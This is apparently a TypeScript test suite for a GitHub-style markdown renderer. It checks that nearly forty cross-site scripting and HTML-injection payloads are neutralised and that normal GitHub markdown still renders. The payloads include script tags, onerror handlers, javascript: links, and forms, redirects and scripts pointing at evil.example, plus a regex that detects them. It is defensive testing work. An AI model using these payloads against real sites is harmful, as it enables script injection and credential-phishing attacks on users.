import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { renderMarkdown } from '../../src/github-twin/pages/markdown.ts'

/** Tags and attributes as a browser would find them; text that merely looks like them is escaped and not matched. */
const dangers =
  /<(script|style|iframe|object|embed|form|svg|math|link|meta|base|template|button|textarea)\b|<[^>]*\s(on\w+|style|srcdoc|formaction|id|name|xlink:href)\s*=|(href|src)\s*=\s*["']?\s*(javascript|data|vbscript|file):|<!--/i

describe('nothing that runs, loads or hides gets through', () => {
  const table = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<svg onload=alert(1)></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java&#x09;script:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)" onclick=alert(1)>x</a>',
    '[x](javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '![x](javascript:alert(1))',
    '[x]: javascript:alert(1)\n\n[x]',
    '<javascript:alert(1)>',
    '<div style="position:fixed;inset:0">over everything</div>',
    '<style>body{display:none}</style>',
    '<form action="https://evil.example"><input name=body><button>Send</button></form>',
    '<input type=text id=comment-body value=planted>',
    '<button form="comment-form" formaction="/x">Re-run</button>',
    '<details ontoggle=alert(1) open><summary>x</summary></details>',
    '<p id="checks">planted</p>',
    '<a name="person">planted</a>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<!-- <img src=x onerror=alert(1)> -->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<template><script>alert(1)</script></template>',
    '```<script>alert(1)</script>\ncode\n```',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    '> [!WARNING]\n> <script>alert(1)</script>',
    '`<script>`</code><script>alert(1)</script>',
    '<<script>script>alert(1)<</script>/script>',
  ]
  for (const text of table) {
    test(JSON.stringify(text), () => {
      for (const kind of ['comment', 'document'] as const) assert.doesNotMatch(renderMarkdown(text, kind), dangers)
    })
  }
})

describe('what GitHub shows is shown', () => {
  const table: [string, RegExp][] = [
    ['| a | b |\n|:--|--:|\n| 1 | 2 |', /<table>[\s\S]*<td align="right">2<\/td>/],
    [
      '<details open><summary>Logs</summary>\n\n```\nline\n```\n\n</details>',
      /<details open(="")?><summary>Logs<\/summary>[\s\S]*<pre><code>line\n<\/code><\/pre>/,
    ],
    [
      '> [!WARNING]\n> Stale.',
      /<div class="markdown-alert markdown-alert-warning"><p class="markdown-alert-title">Warning<\/p><p>Stale\.<\/p>/,
    ],
    ['> [!note] not one', /<blockquote>/],
    ['**bold** _it_ ~~no~~ `code`', /<strong>bold<\/strong> <em>it<\/em> <del>no<\/del> <code>code<\/code>/],
    ['```json\n{"a":1}\n```', /<code class="language-json">/],
    ['- [x] done', /<input type="checkbox" disabled checked \/>/],
    ['[docs](https://example.com/a)', /<a href="https:\/\/example\.com\/a" rel="nofollow noopener noreferrer">docs<\/a>/],
    ['![plot](http://127.0.0.1:1/plot.svg)', /<img src="http:\/\/127\.0\.0\.1:1\/plot\.svg" alt="plot" \/>/],
    ['<!-- osmo:report -->\nseen', /^\s*<p>seen<\/p>\s*$/],
    ['a < b && c', /a &lt; b &amp;&amp; c/],
  ]
  for (const [text, expected] of table) {
    test(JSON.stringify(text), () => assert.match(renderMarkdown(text, 'comment'), expected))
  }
})

test('a line break is one in a comment and a blank in a document', () => {
  assert.match(renderMarkdown('one\ntwo', 'comment'), /one<br \/>\s*two/)
  assert.match(renderMarkdown('one\ntwo', 'document'), /one\ntwo/)
})
